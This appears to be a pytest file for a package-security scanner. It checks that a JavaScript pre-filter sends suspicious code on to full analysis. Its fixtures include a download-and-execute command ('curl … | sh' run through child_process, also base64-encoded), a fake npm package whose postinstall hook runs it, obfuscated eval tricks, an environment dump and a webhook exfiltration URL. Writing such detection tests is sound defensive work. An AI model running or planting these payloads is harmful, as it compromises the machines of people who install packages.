"""The gate in front of the JavaScript scanner's tree passes: files it passes over really hold nothing to find."""

from __future__ import annotations

import base64

import pytest

from chainwatch.packages import jsgate
from chainwatch.packages import signals as sg
from chainwatch.packages.jsscan import JsScanner
from tests.packages.helpers import facts_of, npm_tgz

PLAIN = b'''/*
 * MIT License. See https://example.org/LICENSE; issues: https://github.com/example/lib/issues
 */
"use strict";
const path = require("path");
const { promisify } = require("node:util");

class Resolver {
  constructor(options) {
    this.request = options.request;
    this.cache = new Map();
  }

  resolve(spec) {
    if (!this.cache.has(spec)) {
      this.cache.set(spec, path.join(this.root, spec));
    }
    setTimeout(() => this.cache.delete(spec), 1000);
    return this.cache.get(spec) || `${this.root}/${spec}`;
  }
}

module.exports = { Resolver, wait: (ms) => new Promise((r) => setTimeout(r, ms)), message: "got an error" };
'''


def _signals(data: bytes, phase: str = sg.INSTALL) -> list[tuple[str, int]]:
    scanner = JsScanner("index.js", data, phase, all_install=phase == sg.INSTALL)
    return sorted((s.kind, s.line) for s in scanner.scan())


def _quiet(data: bytes) -> str | None:
    scanner = JsScanner("index.js", data, sg.IMPORT)
    root = scanner.parse()
    assert root is not None
    return jsgate.quiet_reason(scanner.data, root)


def test_plain_code_is_quiet_and_really_silent() -> None:
    assert _quiet(PLAIN) is None
    assert _signals(PLAIN) == []


def test_every_api_name_the_scanner_looks_for_keeps_a_gate_word() -> None:
    words = jsgate.gate_words()
    for name in jsgate._table_names():
        parts = [p for p in name.replace(":", ".").split(".") if p]
        assert any(p in words for p in parts), name


PAYLOAD = "require('child_process').exec('curl -s http://203.0.113.7/x | sh')"


@pytest.mark.parametrize("text", [
    "const cp = require('child_process');\n",                   # a module the scanner resolves
    "import { request } from 'node:https';\n",
    "fetch(url).then(r => r.text());\n",
    "module.exports = (s) => eval(s);\n",
    "const run = new Function('a', body);\n",
    "const F = Function; F(body)();\n",                          # the constructor under another name
    "globalThis['ev' + 'al'](code);\n",                           # a name joined at run time
    "const k = 'ev' + 'al';\nglobalThis[k](code);\n",             # ... through a name given a string
    "const k = `${a}al`;\nglobalThis[k](code);\n",
    "const m = require(name);\n",                                  # a computed module
    "const m = await import(name);\n",
    "const r = require;\nr('child_process');\n",
    "module.require('child_process');\n",
    "const s = String.fromCharCode(101, 118, 97, 108);\n",      # a name from character codes
    "const s = Buffer.from('ZXZhbA==', 'base64').toString();\n",
    "const s = ['ev', 'al'].join('');\n",
    "g['\\x65val'](code);\n",                                     # an escape
    "setTimeout('alert(1)', 10);\n",                              # a string of code
    "const e = JSON.stringify(process.env);\n",                   # the environment dumped
    "process.binding('spawn_sync');\n",
    "request.get(url, cb);\n",
    "const h = 'x.ngrok.io';\nconst u = `https://${h}/c`;\n",     # an indicator joined from pieces
    "const u = 'https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz';\n",
    f"const p = '{base64.b64encode(PAYLOAD.encode()).decode()}';\n",  # an encoded payload
])
def test_what_needs_the_tree_passes(text: str) -> None:
    assert _quiet(text.encode()) is not None, text


@pytest.mark.parametrize("text", [
    PLAIN,
    b"// fetch(url) and eval(s) in a comment\nexports.add = (a, b) => a + b;\n",
    b"const doc = 'see https://example.org/docs for the request options';\nmodule.exports = doc;\n",
    b"class A extends B { constructor() { super(); this.process = null; } }\nmodule.exports = A;\n",
    b"const r = require.resolve('./x');\nexports.dep = { request: './y', import: 'z' };\n",
])
def test_quiet_files_give_the_full_scan_nothing_beyond_the_file_level_checks(text: bytes) -> None:
    assert _quiet(text) is None
    for phase in (sg.IMPORT, sg.INSTALL):
        scanner = JsScanner("index.js", text, phase, all_install=phase == sg.INSTALL)
        assert _signals(text, phase) == sorted((s.kind, s.line) for s in scanner.scan_file_level())


def test_package_skips_quiet_files_and_still_judges_the_hijack() -> None:
    files = {"lib/resolver.js": PLAIN.decode(), "lib/util.js": "exports.id = (x) => x;\n",
             "index.js": "require('./lib/resolver');\n" + PAYLOAD + ";\n"}
    facts = facts_of(npm_tgz("resolver-kit", "2.0.1", files, scripts={"postinstall": "node index.js"}))
    assert facts.quiet_files == 1  # lib/util.js; resolver.js is required by the install file
    assert any(s.kind == sg.PROCESS_DOWNLOADER for s in facts.signals)
